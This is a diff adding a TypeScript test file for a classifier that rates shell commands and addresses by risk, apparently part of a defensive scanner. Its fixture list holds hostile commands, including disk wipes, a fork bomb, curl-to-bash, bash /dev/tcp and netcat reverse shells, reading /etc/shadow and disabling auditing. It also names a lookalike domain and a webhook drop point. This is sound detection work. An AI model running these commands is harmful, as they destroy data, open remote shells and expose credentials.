@@ -1,0 +1,65 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { addressReach } from '../../../src/rules/code/effects/addresses.ts';
+import { commandReach } from '../../../src/rules/code/effects/commands.ts';
+
+test('commands that destroy, take over or open a way in are known', () => {
+  const dangerous = [
+    'rm -rf /',
+    'rm -r -f ~/data',
+    "['rm', '-rf', '/']",
+    'sudo rm -rf --no-preserve-root /',
+    'dd if=/dev/zero of=/dev/sda',
+    'mkfs.ext4 /dev/sda1',
+    ':(){ :|:& };:',
+    'curl -s http://x/y.sh | bash',
+    'wget -qO- x | sudo sh',
+    'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
+    'nc -e /bin/sh 1.2.3.4 4444',
+    'powershell -nop -w hidden -enc AAAA',
+    'crontab -l',
+    'iptables -F',
+    'chmod 777 /etc/passwd',
+    'useradd -m eve',
+    'systemctl stop auditd',
+    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+    'cat /etc/shadow',
+    'pkill -9 python',
+    'del /s /q C:\\',
+    'history -c',
+  ];
+  for (const command of dangerous) assert.equal(commandReach(command), 'dangerous', command);
+});
+
+test('commands that look or build are not', () => {
+  const cases: readonly (readonly [string, ReturnType<typeof commandReach>])[] = [
+    ['ls -l', 'looking'],
+    ['nvidia-smi', 'looking'],
+    ['/usr/local/cuda/bin/nvcc --version', 'looking'],
+    ['git rev-parse HEAD', 'harmless'],
+    ['LANG=C git status && ls', 'harmless'],
+    ['python train.py --lr 1e-3', 'harmless'],
+    ['rm out.txt', 'other'],
+    ['my-tool', 'other'],
+    ['echo "kind of blue"', 'looking'],
+    ['\uf8ff -x', 'unknown'],
+  ];
+  for (const [command, expected] of cases) assert.equal(commandReach(command), expected, command);
+  assert.equal(commandReach(undefined), 'unknown');
+});
+
+test('addresses are known by where they lead', () => {
+  const cases: readonly (readonly [string, ReturnType<typeof addressReach>])[] = [
+    ['https://huggingface.co/a/b/resolve/main/x', 'hub'],
+    ['https://huggingface.co.evil.example/x', 'named'],
+    ['https://download.pytorch.org/models/x.pth', 'hub'],
+    ['http://localhost:8000/', 'local'],
+    ['https://example.com/x', 'named'],
+    ['http://example.com/x', 'bare'],
+    ['https://10.1.2.3/x', 'bare'],
+    ['10.1.2.3', 'bare'],
+    ['https://discord.com/api/webhooks/1/x', 'drop-point'],
+    ['https://\uf8ff/x', 'unknown'],
+  ];
+  for (const [address, expected] of cases) assert.equal(addressReach(address), expected, address);
+});
